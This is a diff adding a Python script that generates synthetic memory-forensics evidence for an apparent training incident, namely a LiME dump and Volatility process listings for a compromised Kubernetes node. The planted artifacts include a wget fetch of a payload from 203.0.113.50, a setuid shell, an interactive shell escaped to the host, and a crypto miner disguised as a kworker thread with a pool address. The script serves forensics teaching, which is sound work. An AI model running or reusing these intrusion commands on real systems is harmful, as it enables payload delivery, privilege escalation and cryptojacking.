@@ -1,0 +1,122 @@
+#!/usr/bin/env python3
+"""Writes the training incident's memory evidence (synthetic, written by us in the real formats):
+
+  incident-1/memory/ip-192-168-23-107.lime (+ .sha256, LiME's digest= sidecar): a small LiME dump (format=lime:
+      a 32-byte header per range, end address inclusive) with the attacker's strings planted in its ranges;
+  incident-1/memory/volatility/: the node's process tree as Volatility 3 linux.pslist (text), linux.psaux (text),
+      linux.pstree (-r json) and linux.psaux (-r csv) print it, and as Volatility 2 linux_pstree prints it.
+
+The tree agrees with the node's disk (incident-1/node/*.tar.gz): the pod sandbox 5d9a0b7c… and the sysdiag
+container 8e1f2a3b… under one containerd-shim, the intruder's exec'd shell, the dropped miner script and the
+setuid shell, then an escape to the host: a shell under PID 1 and a miner named like a kernel thread.
+Run from anywhere:  python3 sample-data/generators/incident-1-memory.py
+"""
+import csv, hashlib, io, json, os, struct
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+OUT = os.path.join(HERE, "..", "incident-1", "memory")
+SANDBOX = "5d9a0b7c1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b"
+SHIM_ARGS = f"/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id {SANDBOX} -address /run/containerd/containerd.sock"
+
+# pid, ppid, comm (15 chars, as task_struct.comm), argv (None: kernel thread), uid, start (UTC)
+PROCESSES = [
+    (1, 0, "systemd", "/usr/lib/systemd/systemd --switched-root --system --deserialize 21", 0, "2026-11-29 06:01:02.114000"),
+    (2, 0, "kthreadd", None, 0, "2026-11-29 06:01:02.114000"),
+    (3, 2, "rcu_gp", None, 0, "2026-11-29 06:01:02.115000"),
+    (9, 2, "kworker/0:1H", None, 0, "2026-11-29 06:01:02.121000"),
+    (14, 2, "ksoftirqd/0", None, 0, "2026-11-29 06:01:02.122000"),
+    (412, 1, "systemd-journal", "/usr/lib/systemd/systemd-journald", 0, "2026-11-29 06:01:04.301000"),
+    (655, 1, "chronyd", "/usr/sbin/chronyd -F 2", 996, "2026-11-29 06:01:05.020000"),
+    (830, 1, "containerd", "/usr/bin/containerd", 0, "2026-11-29 06:01:06.440000"),
+    (905, 1, "kubelet", "/usr/bin/kubelet --config /etc/kubernetes/kubelet/kubelet-config.json --kubeconfig /var/lib/kubelet/kubeconfig "
+                        "--container-runtime-endpoint unix:///run/containerd/containerd.sock --node-ip=192.168.23.107", 0, "2026-11-29 06:01:07.810000"),
+    (1010, 1, "amazon-ssm-agen", "/usr/bin/amazon-ssm-agent", 0, "2026-11-29 06:01:08.002000"),
+    (4711, 1, "containerd-shim", SHIM_ARGS, 0, "2026-11-29 06:23:30.951000"),
+    (4730, 4711, "sleep", "/bin/sleep 86400", 0, "2026-11-29 06:23:30.981000"),
+    (4790, 4711, "sh", "/bin/sh -c sleep 86400", 0, "2026-11-29 06:23:31.204000"),
+    (4801, 4790, "sleep", "sleep 86400", 0, "2026-11-29 06:23:31.209000"),
+    (5120, 4711, "sh", "sh", 0, "2026-11-29 06:23:31.470000"),
+    (5188, 5120, "sh", "/bin/sh /tmp/.x/miner.sh", 0, "2026-11-29 06:23:31.482000"),
+    (5190, 5188, "sleep", "sleep 60", 0, "2026-11-29 06:23:31.483000"),
+    (5201, 5120, "sh", "/tmp/.x/sh -p", 0, "2026-11-29 06:23:31.490000"),
+    (5230, 5201, "wget", "wget -qO- http://203.0.113.50/drop", 0, "2026-11-29 06:23:31.530000"),
+    (5302, 1, "sh", "sh -i", 0, "2026-11-29 06:24:02.770000"),
+    (5310, 1, "kworker/0:2", "/dev/shm/kworker/0:2 --pool stratum+tcp://203.0.113.50:3333 --user AKIA5DEVINTERN7EXMPL", 0, "2026-11-29 06:24:05.012000"),
+]
+OFFSET_BASE = 0xFFFF9E3B40000000
+
+def offset(pid): return OFFSET_BASE + pid * 0x2A00
+
+def children(pid): return [p for p in PROCESSES if p[1] == pid and p[0] != pid]
+
+def walk(pid=0, depth=0):
+    for p in sorted(children(pid)):
+        yield p, depth
+        yield from walk(p[0], depth + 1)
+
+def args_text(p): return p[3] if p[3] is not None else f"[{p[2]}]"
+
+def write(name, text):
+    with open(os.path.join(OUT, "volatility", name), "w", newline="\n") as f:
+        f.write(text)
+
+def vol3_text(header, rows, banner=True):
+    lines = (["Volatility 3 Framework 2.11.0", "Progress:  100.00\t\tStacking attempts finished"] if banner else []) + ["", "\t".join(header)]
+    lines += ["\t".join(str(c) for c in r) for r in rows]
+    return "\n".join(lines) + "\n"
+
+def main():
+    os.makedirs(os.path.join(OUT, "volatility"), exist_ok=True)
+    # linux.pslist (PsList 4.1.1 columns), quick renderer
+    write("linux.pslist.txt", vol3_text(
+        ["OFFSET (V)", "PID", "TID", "PPID", "COMM", "UID", "GID", "EUID", "EGID", "CREATION TIME", "File output"],
+        [[hex(offset(p[0])), p[0], p[0], p[1], p[2], p[4], p[4], p[4], p[4], p[5] + " UTC", "Disabled"] for p in sorted(PROCESSES)]))
+    # linux.psaux, quick renderer
+    write("linux.psaux.txt", vol3_text(["PID", "PPID", "COMM", "ARGS"], [[p[0], p[1], p[2], args_text(p)] for p in sorted(PROCESSES)]))
+    # linux.psaux -r csv (TreeDepth first; banner goes to stderr for structured renderers)
+    buffer = io.StringIO()
+    w = csv.writer(buffer, escapechar="\\", lineterminator="\n")
+    w.writerow(["TreeDepth", "PID", "PPID", "COMM", "ARGS"])
+    for p in sorted(PROCESSES):
+        w.writerow([0, p[0], p[1], p[2], args_text(p)])
+    write("linux.psaux.csv", buffer.getvalue())
+    # linux.pstree -r json: nested by __children, Hex columns as integers, keys sorted, indent 2
+    def node(p):
+        return {"COMM": p[2], "OFFSET (V)": offset(p[0]), "PID": p[0], "PPID": p[1], "TID": p[0],
+                "__children": [node(c) for c in sorted(children(p[0]))]}
+    write("linux.pstree.json", json.dumps([node(p) for p in sorted(children(0))], indent=2, sort_keys=True) + "\n")
+    # Volatility 2 linux_pstree: "." per level before the name, kernel threads as [comm]
+    lines = ["Volatility Foundation Volatility Framework 2.6.1", "{0:20s} {1:15s} {2:15s}".format("Name", "Pid", "Uid")]
+    for p, depth in walk():
+        name = "." * depth + (p[2] if p[3] is not None else f"[{p[2]}]")
+        lines.append("{0:20s} {1:15s} {2:15s}".format(name, str(p[0]), str(p[4])).rstrip())
+    write("linux_pstree.txt", "\n".join(lines) + "\n")
+
+    # The LiME dump: three "System RAM" ranges, mostly zeros, with the intrusion's strings where processes had them.
+    ranges = [(0x1000, 0x9FFF), (0x100000, 0x13FFFF), (0x7FF00000, 0x7FF0FFFF)]
+    planted = {
+        0: [(0x2400, b"Linux version 6.1.112-124.190.amzn2023.x86_64 (mockbuild@ip-10-0-51-133) #1 SMP\x00")],
+        1: [(0x00410, b"AWS_ACCESS_KEY_ID=AKIA5DEVINTERN7EXMPL\x00AWS_DEFAULT_REGION=us-west-2\x00"),
+            (0x08000, b"io.kubernetes.pod.name=sysdiag\x00io.kubernetes.pod.namespace=default\x00"),
+            (0x10020, b"#!/bin/sh\nwhile true; do sleep 60; done\n\x00/tmp/.x/miner.sh\x00"),
+            (0x1FFF0, b"wget -qO- http://203.0.113.50/drop\x00"),  # crosses the scanner's 128 KiB chunk boundary
+            (0x2A000, b"GET /drop HTTP/1.1\r\nHost: 203.0.113.50\r\nUser-Agent: Wget\r\n\r\n"),
+            (0x33000, b"kubectl/v1.31.2 (linux/amd64) from 198.51.100.23\x00")],
+        2: [(0x0100, b"--pool stratum+tcp://203.0.113.50:3333 --user AKIA5DEVINTERN7EXMPL\x00"),
+            (0x4000, b"resolv: update.example.net A 203.0.113.50\x00"),
+            (0xF000, b"/dev/shm/kworker/0:2\x00")],
+    }
+    dump = bytearray()
+    for i, (start, end) in enumerate(ranges):
+        data = bytearray(end - start + 1)
+        for at, text in planted.get(i, []):
+            data[at:at + len(text)] = text
+        dump += struct.pack("<IIQQQ", 0x4C694D45, 1, start, end, 0) + data
+    path = os.path.join(OUT, "ip-192-168-23-107.lime")
+    with open(path, "wb") as f:
+        f.write(dump)
+    with open(path + ".sha256", "w") as f:
+        f.write(hashlib.sha256(dump).hexdigest() + "\n")
+
+if __name__ == "__main__":
+    main()
